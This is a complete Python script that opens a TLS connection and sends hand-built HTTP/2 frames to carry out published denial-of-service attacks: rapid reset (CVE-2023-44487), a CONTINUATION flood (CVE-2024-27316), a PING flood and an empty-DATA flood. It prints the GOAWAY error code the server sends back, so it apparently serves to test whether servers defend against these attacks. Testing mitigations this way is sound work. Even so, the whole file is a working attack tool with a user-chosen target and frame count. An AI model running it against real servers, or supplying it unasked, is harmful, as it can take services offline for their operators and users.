#!/usr/bin/env python3
"""Mounts a published HTTP/2 attack on a TLS endpoint with raw frames (stdlib only: the frames
are built by hand, the header blocks from HPACK's static table) and prints the error code of the
GOAWAY that ends it, or "none" when the server never sent one within the time limit.

  rapid-reset   streams opened and cancelled at once (CVE-2023-44487)
  continuation  one header block in endless CONTINUATION frames (CVE-2024-27316)
  ping          a flood of PING frames
  empty-data    a stream fed empty DATA frames

Usage: h2_attack.py HOST PORT SERVER_NAME CA_FILE ATTACK [COUNT]
"""
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request_block(authority):
    # :method GET (2), :scheme https (7), :path / (4), :authority literal (name index 1).
    name = authority.encode()
    return bytes([0x82, 0x87, 0x84, 0x41, len(name)]) + name


def attack(kind, count, authority):
    out = [PREFACE, frame(SETTINGS, 0, 0)]
    if kind == "rapid-reset":
        for i in range(count):
            stream = 1 + 2 * i
            out.append(frame(HEADERS, END_HEADERS | END_STREAM, stream, request_block(authority)))
            out.append(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))  # CANCEL
    elif kind == "continuation":
        out.append(frame(HEADERS, 0, 1, request_block(authority)))
        for _ in range(count):
            out.append(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b"))  # literal "a: b"
    elif kind == "ping":
        for i in range(count):
            out.append(frame(PING, 0, 0, struct.pack(">Q", i)))
    elif kind == "empty-data":
        out.append(frame(HEADERS, END_HEADERS, 1, bytes([0x83, 0x87, 0x84, 0x41, len(authority)]) +
                         authority.encode()))  # POST, body to follow
        for _ in range(count):
            out.append(frame(DATA, 0, 1))
    return b"".join(out)


def main():
    host, port, server_name, ca, kind = sys.argv[1:6]
    count = int(sys.argv[6]) if len(sys.argv) > 6 else 1000
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols(["h2"])
    with socket.create_connection((host, int(port)), timeout=5) as raw:
        with context.wrap_socket(raw, server_hostname=server_name) as tls:
            if tls.selected_alpn_protocol() != "h2":
                print("no-h2")
                return
            try:
                tls.sendall(attack(kind, count, server_name))
            except OSError:
                pass  # the server may close while we still send
            buffer = b""
            deadline = time.time() + 5
            while time.time() < deadline:
                try:
                    chunk = tls.recv(65536)
                except (OSError, ssl.SSLError):
                    break
                if not chunk:
                    break
                buffer += chunk
                while len(buffer) >= 9:
                    length = int.from_bytes(buffer[:3], "big")
                    if len(buffer) < 9 + length:
                        break
                    if buffer[3] == GOAWAY and length >= 8:
                        print(int.from_bytes(buffer[13:17], "big"))
                        return
                    buffer = buffer[9 + length:]
    print("none")


if __name__ == "__main__":
    main()
